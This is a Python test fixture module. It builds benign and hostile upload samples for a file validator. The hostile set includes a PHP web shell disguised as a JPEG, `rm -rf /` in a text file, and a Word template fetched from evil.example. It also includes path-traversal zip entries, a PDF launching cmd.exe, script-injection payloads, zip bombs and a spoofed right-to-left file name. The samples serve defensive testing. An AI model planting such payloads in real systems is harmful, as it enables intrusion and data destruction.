"""Files as they come: good ones of every kind, and hostile ones that must not be taken."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from tests.domain.hostile_pdfs import HOSTILE_PDFS

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" ContentType="application/main+xml"/></Types>'
)
BODY = b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>'


def png(width: int = 2, height: int = 2, *, after: bytes = b"", chunk: bytes = b"") -> bytes:
    """A PNG that says it has this size."""

    def part(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 6)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header) + chunk + part(b"IDAT", pixels) + part(b"IEND", b"") + after


def jpg(width: int = 2, height: int = 2) -> bytes:
    """A JPEG's frame that says it has this size."""
    app0 = b"\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x00"
    return b"\xff\xd8" + app0 + frame + scan + b"\xff\xd9"


def pdf(body: bytes = b"", *, head: bytes = b"%PDF-1.7\n", trailer: bytes = b"") -> bytes:
    """A small PDF."""
    return head + b"1 0 obj<</Type/Catalog>>endobj\n" + body + b"trailer<</Root 1 0 R" + trailer + b">>\n%%EOF\n"


def object_stream(content: bytes) -> bytes:
    """An object stream as newer PDFs have them."""
    packed = zlib.compress(content)
    return b"5 0 obj<</Type/ObjStm/N 1/Filter/FlateDecode>>stream\n" + packed + b"\nendstream endobj\n"


def ooxml(main: str = "word/document.xml", more: Mapping[str, bytes] | None = None, **without: bool) -> bytes:
    """A Word or Excel file: a zip with its parts."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>", main: BODY, **(more or {})}
    if without.get("no_types"):
        del parts["[Content_Types].xml"]
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def bomb() -> bytes:
    """A docx of a few hundred kilobytes that unpacks to 256 MB."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", BODY)
        with archive.open("word/media/image1.png", "w") as part:
            for _ in range(256):
                part.write(b"\0" * 1024 * 1024)
    return made.getvalue()


def lying_bomb() -> bytes:
    """A zip whose directory says that a large part is small."""
    content = ooxml(more={"word/media/x.bin": b"\0" * 1_000_000})
    return content.replace(struct.pack("<I", 1_000_000), struct.pack("<I", 10))


def encrypted_zip() -> bytes:
    """A zip whose members say that they are encrypted."""
    made = bytearray(ooxml())
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + 8] |= 1
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": ("policy.pdf", pdf()),
    "pdf with a picture that holds /JS by chance": ("a.pdf", pdf(b"4 0 obj<<>>stream\n/JS (x) /Launch\nendstream\n")),
    "pdf that tells of scripts": (
        "scripts.pdf",
        pdf(b"2 0 obj<</URI(https://a.example/JavaScript?/JS \\) /Launch)>>endobj\n"),
    ),
    "pdf with an outline beside a picture": (
        "outline.pdf",
        pdf(b"4 0 obj<</First 5 0 R/AP<</N 6 0 R>>>>endobj\n7 0 obj<</Filter/DCTDecode>>stream\n\xff\xd8\nendstream\n"),
    ),
    "pdf with object stream": ("a.PDF", pdf(object_stream(b"<</Type/Page>>"))),
    "png": ("a.png", png()),
    "jpg": ("a.jpg", jpg()),
    "jpeg": ("photo.of.the.rack.JPEG", jpg()),
    "docx": ("Richtlinie für Löschung.docx", ooxml()),
    "xlsx": ("register.xlsx", ooxml("xl/workbook.xml")),
    "csv": ("sources.csv", b"\xef\xbb\xbfname;amount\r\n\xc3\x84pfel;3\r\n"),
    "txt": ("notes.txt", "Приве́т 👋\n\ttabbed".encode()),
}

HOSTILE: dict[str, tuple[str, bytes]] = {
    "empty": ("a.pdf", b""),
    "too large": ("a.txt", b"a" * (25 * 1024 * 1024 + 1)),
    "no extension": ("policy", pdf()),
    "exe": ("setup.exe", b"MZ\x90\0"),
    "double extension": ("policy.pdf.exe", pdf()),
    "right-to-left override": ("policy\u202efdp.exe", pdf()),
    "html": ("a.html", b"<html></html>"),
    "svg": ("a.svg", b"<svg onload='alert(1)'/>"),
    "macro extension": ("a.docm", ooxml()),
    "old Word": ("a.doc", OLD_OFFICE),
    "zip": ("a.zip", ooxml()),
    "pdf that is html": ("a.pdf", b"<html><script>alert(1)</script></html>"),
    "pdf with html before it": ("a.pdf", b"<script>alert(1)</script>\n" + pdf()),
    "pdf that is a zip": ("a.pdf", ooxml()),
    "pdf cut off": ("a.pdf", pdf()[:40]),
    "pdf with a script": ("a.pdf", pdf(b"2 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\n")),
    "pdf with an escaped script": ("a.pdf", pdf(b"2 0 obj<</S/J#61vaScript /J#53(1)>>endobj\n")),
    "pdf with a script in an object stream": ("a.pdf", pdf(object_stream(b"<</S/JavaScript/JS(1)>>"))),
    "pdf that launches": ("a.pdf", pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj\n")),
    "pdf with an attachment": ("a.pdf", pdf(b"2 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj\n")),
    "pdf with a password": ("a.pdf", pdf(trailer=b"/Encrypt 9 0 R")),
    "pdf bomb in an object stream": ("a.pdf", pdf(object_stream(b"\0" * 60 * 1024 * 1024))),
    "png that is jpg": ("a.png", jpg()),
    "png of 10 gigapixels": ("a.png", png(100_000, 100_000)),
    "png without height": ("a.png", png(5, 0)),
    "png with a zip behind it": ("a.png", png(after=ooxml())),
    "png with html behind it": ("a.png", png(after=b"<script>alert(1)</script>")),
    "png with a wrong checksum": ("a.png", png()[:-5] + b"\0" + png()[-4:]),
    "png cut off": ("a.png", png()[:30]),
    "png header only": ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
    "jpg of 4 gigapixels": ("a.jpg", jpg(65_000, 65_000)),
    "jpg without a frame": ("a.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9"),
    "jpg that is php": ("a.jpg", b"<?php system($_GET['c']); ?>"),
    "jpg magic and html": ("a.jpg", b"\xff\xd8\xff<script>alert(1)</script>"),
    "jpg cut off": ("a.jpg", jpg()[:24]),
    "docx that is text": ("a.docx", b"hello"),
    "docx that is xlsx": ("a.docx", ooxml("xl/workbook.xml")),
    "docx without content types": ("a.docx", ooxml(no_types=True)),
    "docx with macros": ("a.docx", ooxml(more={"word/vbaProject.bin": b"x"})),
    "docx with macros by another name": (
        "a.docx", ooxml(more={"word/_rels/document.xml.rels": b'<R Type="http://x/vbaProject" Target="m.bin"/>'}),
    ),
    "docx with a control": ("a.docx", ooxml(more={"word/activeX/activeX1.bin": b"x"})),
    "docx with an embedded program": ("a.docx", ooxml(more={"word/embeddings/oleObject1.bin": b"MZ"})),
    "docx with a template from elsewhere": (
        "a.docx",
        ooxml(more={"word/_rels/settings.xml.rels":
                    b'<R Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'}),
    ),
    "docx with entities": (
        "a.docx", ooxml(more={"word/settings.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    ),
    "docx with entities in utf-16": (
        "a.docx", ooxml(more={"word/settings.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}),
    ),
    "docx that leads out": ("a.docx", ooxml(more={"../../etc/passwd": b"x"})),
    "docx with an absolute part": ("a.docx", ooxml(more={"/etc/passwd": b"x"})),
    "docx with a windows path": ("a.docx", ooxml(more={"..\\..\\a.bat": b"x"})),
    "docx with two thousand parts": ("a.docx", ooxml(more={f"word/p{n}.xml": b"<a/>" for n in range(2001)})),
    "docx bomb": ("a.docx", bomb()),
    "docx that lies about its size": ("a.docx", lying_bomb()),
    "docx with a password": ("a.docx", OLD_OFFICE + "EncryptedPackage".encode("utf-16-le")),
    "docx with encrypted members": ("a.docx", encrypted_zip()),
    "docx behind a program": ("a.docx", b"MZ\x90\0" + ooxml()),
    "docx cut off": ("a.docx", ooxml()[:-30]),
    "xlsx in the old format": ("a.xlsx", OLD_OFFICE),
    "xlsx with old macros": ("a.xlsx", ooxml("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "xlsx with commands": (
        "a.xlsx", ooxml("xl/workbook.xml", {"xl/externalLinks/link1.xml": b"<x><ddeLink ddeService='cmd'/></x>"}),
    ),
    "csv with NUL": ("a.csv", b"a;b\0c"),
    "csv in utf-16": ("a.csv", "a;b".encode("utf-16")),
    "csv in latin-1": ("a.csv", "Äpfel;3".encode("latin-1")),
    "csv that is a zip": ("a.csv", ooxml()),
    "txt that is a program": ("a.txt", b"MZ\x90\0\x03"),
    "txt that is html": ("a.txt", b"  \n<!DOCTYPE html><script>alert(1)</script>"),
    "txt that is php": ("a.txt", b"<?php phpinfo();"),
    "txt that is a shell script": ("a.txt", b"#!/bin/sh\nrm -rf /"),
    "txt with terminal commands": ("a.txt", b"\x1b]0;evil\x07"),
    **HOSTILE_PDFS,
}  # fmt: skip
